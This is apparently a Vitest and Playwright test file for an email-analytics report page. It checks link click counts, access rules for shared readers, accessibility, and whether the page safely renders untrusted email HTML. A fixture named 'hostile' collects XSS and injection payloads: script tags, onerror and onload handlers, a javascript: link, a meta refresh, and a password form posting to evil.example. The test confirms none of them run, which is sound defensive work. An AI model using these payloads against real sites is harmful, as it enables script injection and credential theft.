import { readOutline } from '@hitmark/report/email-outline';
import { parseListing, parseQuery } from '@hitmark/report/query';
import { describe, expect, it, onTestFinished } from 'vitest';
import { findViolations } from './support/find-violations.ts';
import { listedEvents } from './support/listed-events.ts';
import { useSamplePages } from './support/sample-pages.ts';
import { startSampleReport } from './support/sample-report.ts';

const pages = useSamplePages();

const pathOf = (message: string): string => `/sites/sample/message?filter=is~message~${message}`;
const address = pathOf('letter-41');
const all = { site: 'sample', date_range: 'all', filters: ['is', 'message', ['letter-41']] };

/** HTML of an email that would do something if it were shown as it is. */
const hostile = `
  <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
  <link rel="stylesheet" href="https://evil.example/a.css"><style>* { display: none }</style>
  <script>window.hacked = true</script><img src="https://evil.example/open.gif" alt='"><script>hacked=1</script>'>
  <img src=x onerror="window.hacked = true"><svg onload="window.hacked = true"></svg>
  <iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>
  <form action="https://evil.example/"><input name="password"><button>Send</button></form>
  <video poster="https://evil.example/a.jpg" autoplay></video><a href="javascript:window.hacked=true">run</a>
  <div style="position:fixed;inset:0;background:url(https://evil.example/b.png)">over all</div>
  <p>&lt;img src=x onerror=hacked=1&gt; \u202egnp.exe \u0007 ${'w'.repeat(9_000)}</p>
  <a href="https://evil.example/?q=&quot;&gt;&lt;script&gt;">${'x'.repeat(500)}</a></main></body></html>
  <!-- --!><script>window.hacked = true</script>`;

describe('the email itself', () => {
  it('has at each link its clicks, as the API has them, and opens exactly these', async () => {
    const { page, faults } = await pages.open({ javaScriptEnabled: false });
    const { results } = await pages.report.ask(
      parseQuery({
        ...all,
        metrics: ['unique_clicks'],
        dimensions: ['link.position'],
        order_by: [['link.position', 'asc']],
      }),
    );
    await page.goto(pages.report.url + address);
    const badges = page.locator('.paper .badge');
    const counts = (await badges.allInnerTexts()).map((text) => Number.parseInt(text, 10));
    expect(counts).toHaveLength(5);
    expect(counts.filter((count) => count > 0)).toEqual(results.map(({ metrics: [n] }) => n));

    await badges.nth(1).click();
    const ids = await listedEvents(page);
    const { events } = await pages.report.store.list(
      parseListing({
        ...all,
        metrics: ['unique_clicks'],
        filters: ['and', [all.filters, ['is', 'link.position', ['2']]]],
      }),
      pages.report.nowMs,
    );
    expect(ids.length).toBeGreaterThan(0);
    expect(ids).toEqual(events.map(({ event }) => event['id']));
    expect(faults).toEqual([]);
  });

  it('is not there where nobody gave it, with the way to give it', async () => {
    const { page } = await pages.open();
    await page.goto(pages.report.url + pathOf('letter-40'));
    expect(await page.locator('.paper').count()).toBe(0);
    expect(await page.locator('main').innerText()).toContain('hitmark report message letter-40');
  });

  it('is not shown to readers who may not see persons: it may name somebody', async () => {
    const shared = await startSampleReport({ reader: { kind: 'shared', seesPersons: false } });
    onTestFinished(() => shared.close());
    const html = await (await fetch(shared.url + address)).text();
    expect(html).toContain('letter-41');
    expect(html).not.toMatch(/class="paper"|Order Ember|hitmark report message/);
  });

  it.each([320, 1_280])('does nothing, whatever it holds, at %i px', async (width) => {
    pages.report.settings.emails.put('sample', 'letter-40', readOutline(hostile));
    onTestFinished(() => pages.report.settings.emails.delete('sample', 'letter-40'));
    const { page, faults } = await pages.open({ viewport: { width, height: 800 } });
    await page.goto(pages.report.url + pathOf('letter-40'));
    const paper = page.locator('.paper');
    expect(await paper.innerText()).toContain('<img src=x onerror=hacked=1>');
    expect(await paper.locator('script, img, iframe, form, input, object, svg').count()).toBe(0);
    const hrefs = await paper
      .locator('a')
      .evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''));
    expect(hrefs.filter((href) => !href.startsWith('/sites/sample/'))).toEqual([]);
    expect(await page.evaluate('window.hacked')).toBeUndefined();
    const excess = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
    expect({ faults, excess }).toEqual({ faults: [], excess: 0 });
  });

  it.each(['light', 'dark'] as const)('has nothing that axe-core finds, in %s', async (scheme) => {
    const { page } = await pages.open({ colorScheme: scheme });
    await page.goto(pages.report.url + address);
    expect(await findViolations(page)).toEqual([]);
  });
});
